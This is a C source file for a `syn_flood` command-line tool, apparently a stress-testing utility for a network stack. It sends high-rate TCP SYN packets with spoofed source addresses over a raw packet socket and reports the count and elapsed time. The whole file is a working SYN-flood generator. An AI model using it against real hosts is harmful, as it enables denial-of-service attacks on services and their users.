/* SPDX-License-Identifier: Apache-2.0 */
/* SYNs from made-up clients: `syn_flood IFNAME MAC ADDRESS PORT COUNT`, as fast as the interface takes
 * them; COUNT 0: until SIGTERM. Says at its end how many they were and in how many ms. */
#define _GNU_SOURCE /* sendmmsg() */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/clock.h"
#include "base/packet.h"

#define BATCH  64
#define SOURCE "10.66.0.0" /* /16 */

struct syn {
	struct ether_header eth;
	uint8_t ip[PACKET_TCP_MAX];
};

static volatile sig_atomic_t stopped;

static void on_signal(int signal)
{
	(void)signal;
	stopped = 1;
}

static uint32_t draw(uint64_t *state)
{
	*state = *state * 6364136223846793005u + 1442695040888963407u;
	return *state >> 32;
}

static size_t make(struct syn *syn, struct packet *p, uint16_t port, uint64_t *random)
{
	const uint32_t a = draw(random), b = draw(random);
	const struct tcp_header tcp = { .src_port = htons(1024 + b % 64000),
					.dst_port = htons(port),
					.seq = draw(random),
					.flags = TCP_SYN,
					.window = 64240,
					.mss = 1460 };

	memcpy(p->src + 14, &a, 2);
	return sizeof(syn->eth) + packet_write_tcp(p, &tcp, syn->ip);
}

static int send_all(int fd, struct mmsghdr *msgs, unsigned int n)
{
	while (n > 0) {
		int sent = sendmmsg(fd, msgs, n, 0);

		if (sent < 0 && errno != ENOBUFS && errno != EINTR)
			return -errno;
		if (sent > 0) {
			msgs += sent;
			n -= sent;
		}
	}
	return 0;
}

static int flood(int fd, const struct ether_header *eth, struct packet *p, uint16_t port,
		 uint64_t count)
{
	static struct syn syns[BATCH];
	struct mmsghdr msgs[BATCH] = { 0 };
	struct iovec iov[BATCH];
	uint64_t random = dmm_now_ns(), begin = random, sent = 0;

	for (unsigned int i = 0; i < BATCH; i++) {
		syns[i].eth = *eth;
		iov[i].iov_base = &syns[i];
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	while (!stopped && (!count || sent < count)) {
		unsigned int n = count && count - sent < BATCH ? count - sent : BATCH;
		int r;

		for (unsigned int i = 0; i < n; i++)
			iov[i].iov_len = make(&syns[i], p, port, &random);
		r = send_all(fd, msgs, n);
		if (r < 0)
			return r;
		sent += n;
	}
	printf("%llu %llu\n", (unsigned long long)sent,
	       (unsigned long long)((dmm_now_ns() - begin) / DMM_NS_PER_MS));
	return 0;
}

int main(int argc, char **argv)
{
	struct packet p = { .family = DMM_FAMILY_V4, .proto = IPPROTO_TCP };
	struct sockaddr_ll to = { .sll_family = AF_PACKET };
	struct ether_header eth = { .ether_type = htons(ETHERTYPE_IP) };
	struct in_addr source, dest;
	int fd, on = 1, r;

	if (argc != 6 || !ether_aton_r(argv[2], (struct ether_addr *)eth.ether_dhost) ||
	    inet_pton(AF_INET, argv[3], &dest) != 1) {
		fprintf(stderr, "usage: syn_flood IFNAME MAC ADDRESS PORT COUNT\n");
		return 2;
	}
	inet_pton(AF_INET, SOURCE, &source);
	addr_from_v4((const uint8_t *)&source, p.src);
	addr_from_v4((const uint8_t *)&dest, p.dst);
	eth.ether_shost[0] = 2;
	to.sll_ifindex = if_nametoindex(argv[1]);
	signal(SIGTERM, on_signal);
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof(to)) < 0 ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)) < 0) {
		perror("packet socket");
		return 1;
	}
	r = flood(fd, &eth, &p, atoi(argv[4]), strtoull(argv[5], NULL, 10));
	if (r < 0)
		fprintf(stderr, "send: %s\n", strerror(-r));
	close(fd);
	return r < 0;
}
